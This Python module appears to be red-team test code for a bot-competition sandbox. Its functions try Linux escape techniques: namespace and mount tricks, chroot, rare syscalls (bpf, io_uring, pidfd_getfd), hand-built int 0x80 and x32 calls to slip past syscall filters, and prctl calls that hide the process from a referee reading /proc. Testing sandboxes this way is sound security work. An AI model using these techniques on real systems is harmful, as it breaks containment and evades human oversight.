"""Attacks on the kernel itself: namespaces, mounts, and calls that are rare, old or new."""

import ctypes
import mmap
import os
import platform
import struct

from joute.redteam.attacks.attempt import attempt, by_number, call, kept, packed

_USER, _MOUNT, _NETWORK = 0x10000000, 0x00020000, 0x40000000  # namespaces
_PRIVATE, _RECURSIVE = 1 << 18, 1 << 14  # of a mount
_HERE, _COPIED = -100, 1
_FIXED_PLACES, _READ_MEANS_EXECUTE, _THIRTY_TWO_BITS = 0x40000, 0x400000, 8
_SET_DUMPABLE, _SET_MEMORY, _SET_TRACER, _SECURE_BITS = 4, 35, 0x59616D61, 28
_X32 = 0x40000000
_LOW = 0x40  # an address that fits into 32 bits
_HARMLESS = (456, 449, 454, 455)  # new calls that wait for others


def namespaces(aim):
    """Makes namespaces of its own, in which it is root: the first step of most ways out."""
    return attempt(
        user=lambda: call("unshare", _USER),
        mount=lambda: call("unshare", _MOUNT),
        network=lambda: call("unshare", _NETWORK),
        enter=lambda: call("setns", os.open("/proc/self/ns/net", os.O_RDONLY), 0),
    )


def mount(aim):
    """Mounts another file system over what it sees, in a namespace of its own that harms nobody."""

    def world():
        try:
            call("unshare", _MOUNT)
        except OSError:
            call("unshare", _USER | _MOUNT)
        call("mount", b"none", b"/", None, _PRIVATE | _RECURSIVE, None)

    def mounted():
        world()
        call("mount", b"none", aim["own_folder"].encode(), b"tmpfs", 0, None)

    def newer():
        world()
        return call("syscall", 428, _HERE, b"/", 1)  # open_tree

    return attempt(mount=mounted, newer=newer)


def mount_anew(aim):
    """Mounts by the newer calls, which split a mount into steps that old filters do not forbid.

    What it mounts is put nowhere, and what is there stays as it is: the rights to do it are tried.
    """
    as_it_is, room = ctypes.create_string_buffer(32), ctypes.create_string_buffer(1 << 12)
    asked = packed("IIQQ", 24, 0, 0xFFFFFFFFFFFFFFFF, 0)

    def opened():
        made = by_number("fsopen", b"tmpfs", 0)
        kept.append(made)
        by_number("fsconfig", made, 6, None, None, 0)
        kept.append(by_number("fsmount", made, 0, 0))

    def copied(name, *more):
        tree = by_number(name, _HERE, aim["other_folder"].encode(), _COPIED | 0x8000, *more)
        kept.append(tree)
        return os.listdir(tree)

    return attempt(
        opened=opened,
        picked=lambda: by_number("fspick", _HERE, b"/", 0),
        copied=lambda: copied("open_tree"),
        copied_newer=lambda: copied("open_tree_attr", as_it_is, 32),
        changed=lambda: by_number("mount_setattr", _HERE, b"/", 0, as_it_is, 32),
        listed=lambda: by_number("listmount", asked, room, 64, 0),
        told=lambda: by_number("statmount", asked, room, 1 << 12, 0),
    )


def change_root(aim):
    """Changes its root folder, so that what it finds at the usual paths is its own."""
    return attempt(root=lambda: os.chroot(aim["own_folder"]))


def kernel_doors(aim):
    """Makes the kernel's rarer calls, in which most of its faults were found."""
    room = ctypes.create_string_buffer(256)

    def counter():
        event = (ctypes.c_uint32 * 32)(1, 128)  # a software event
        event[10] = 0x60  # neither the kernel nor the hypervisor
        return by_number("perf_event_open", ctypes.byref(event), 0, -1, -1, 0)

    def program():
        table = (ctypes.c_uint32 * 32)(2, 4, 4, 1)  # an array of one number
        return by_number("bpf", 0, ctypes.byref(table), ctypes.sizeof(table))

    return attempt(
        io_uring=lambda: by_number("io_uring_setup", 4, room),
        perf_event=counter,
        bpf=program,
        userfaultfd=lambda: by_number("userfaultfd", 1),
    )


def rarer_doors(aim):
    """Makes more of the kernel's rarer calls: rings, secrets, handles of processes, watches."""
    room = ctypes.create_string_buffer(256)

    def opened(name, *arguments):
        return lambda: kept.append(by_number(name, *arguments))

    def file_of_another():
        handle = by_number("pidfd_open", aim["referee"], 0)
        made = by_number("pidfd_getfd", handle, aim["descriptor"], 0)
        return os.pread(made, 100, 0).decode()

    return attempt(
        ring=opened("io_uring_setup", 1, room),
        secret=opened("memfd_secret", 0),
        faults=opened("userfaultfd", 0),
        all_files=opened("fanotify_init", 0, 0),
        files=opened("inotify_init1", 0),
        mounts=opened("fsopen", b"tmpfs", 0),
        rules=opened("landlock_create_ruleset", struct.pack("=Q", 1), 8, 0),
        kernels_keys=opened("keyctl", 0, -3, 0),
        table=opened("bpf", 0, struct.pack("=IIII", 2, 4, 4, 1).ljust(128, b"\0"), 72),
        trees=opened("open_tree", _HERE, b"/", 1),
        file_of_another=file_of_another,
        advice=opened("process_madvise", aim["referee"], room, 1, 21, 0),
    )


def old_entries(aim):
    """Enters the kernel as 32-bit programs do, whose calls have other numbers."""
    path = aim["other_bot"].encode()

    def interrupt(number, *arguments):
        if platform.machine() != "x86_64":
            raise OSError(38, "no such entry")
        place = call("mmap", None, 8192, 7, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | _LOW, -1, 0)
        words = [number]
        for at, argument in enumerate(arguments):
            if isinstance(argument, bytes):
                ctypes.memmove(place + 4096 + 512 * at, argument + b"\0", len(argument) + 1)
                words.append(place + 4096 + 512 * at)
            else:
                words.append(argument & 0xFFFFFFFF)
        words += [0] * (4 - len(words))
        loads = zip((b"\xb8", b"\xbb", b"\xb9", b"\xba"), words)  # eax, ebx, ecx, edx
        code = b"".join(load + word.to_bytes(4, "little") for load, word in loads)
        whole = b"\x53" + code + b"\xcd\x80\x48\x98\x5b\xc3"  # int 0x80; rbx is the caller's
        ctypes.memmove(place, whole, len(whole))
        result = ctypes.CFUNCTYPE(ctypes.c_long)(place)()
        if result < 0:
            raise OSError(-result, "int 0x80")
        return result

    return attempt(
        mode=lambda: interrupt(15, path, 0o777),
        mode_at=lambda: interrupt(306, _HERE, path, 0o777),
        mode_newer=lambda: interrupt(452, _HERE, path, 0o777),
        owner=lambda: interrupt(182, path, 65533, 65533),
        empty=lambda: interrupt(92, path, 0),
        process=lambda: interrupt(2),
        x32_mode=lambda: call("syscall", _X32 | 90, path, 0o777),
        x32_mode_at=lambda: call("syscall", _X32 | 268, _HERE, path, 0o777),
        x32_mode_newer=lambda: call("syscall", _X32 | 452, _HERE, path, 0o777, 0),
        x32_process=lambda: call("syscall", _X32 | 57),
    )


def old_behaviours(aim):
    """Has the kernel treat it as an old program: with guessable addresses and old calls."""
    room = ctypes.create_string_buffer(64)
    return attempt(
        fixed_places=lambda: by_number("personality", _FIXED_PLACES),
        executable=lambda: by_number("personality", _READ_MEANS_EXECUTE),
        narrow=lambda: by_number("personality", _THIRTY_TWO_BITS),
        segments=lambda: by_number("modify_ldt", 0, room, 64),
        ports=lambda: by_number("iopl", 0),
        some_ports=lambda: by_number("ioperm", 0x80, 1, 1),
        log=lambda: by_number("syslog", 9, None, 0),
        quota=lambda: by_number("quotactl", 0x800007, None, 0, room),
        modules=lambda: by_number("init_module", room, 0, b""),
    )


def numbers_new(aim):
    """Makes every call on another bot's file that may be too new for a filter of calls."""
    path = aim["other_bot"].encode()

    def calls(*arguments):
        found = []
        refused = {}
        for number in range(441, 700):
            if number in _HARMLESS:
                continue
            try:
                call("syscall", number, *arguments)
                found.append(number)
            except OSError as error:
                refused[error.errno] = error
        if not found:
            raise refused[min(refused)]
        return found

    return attempt(
        at_path=lambda: calls(_HERE, path, 0o777, 0),
        path=lambda: calls(path, 0o777, 0, 0),
        at_path_later=lambda: calls(_HERE, path, 0, 0o777),
    )


def undumpable(aim):
    """Hides from the referee, which reads /proc: makes its process one that only root may read."""
    area = ctypes.create_string_buffer(b"JOUTE_BOT=another\0")
    start = ctypes.addressof(area)

    def control(*arguments):
        return by_number("prctl", *arguments)

    return attempt(
        undumpable=lambda: control(_SET_DUMPABLE, 0, 0, 0, 0),
        environment=lambda: control(_SET_MEMORY, 10, start, 0, 0),
        map=lambda: control(_SET_MEMORY, 14, struct.pack("=16Q", *[start] * 16), 128, 0),
        tracer=lambda: control(_SET_TRACER, -1, 0, 0, 0),
        bits=lambda: control(_SECURE_BITS, 1, 0, 0, 0),
    )
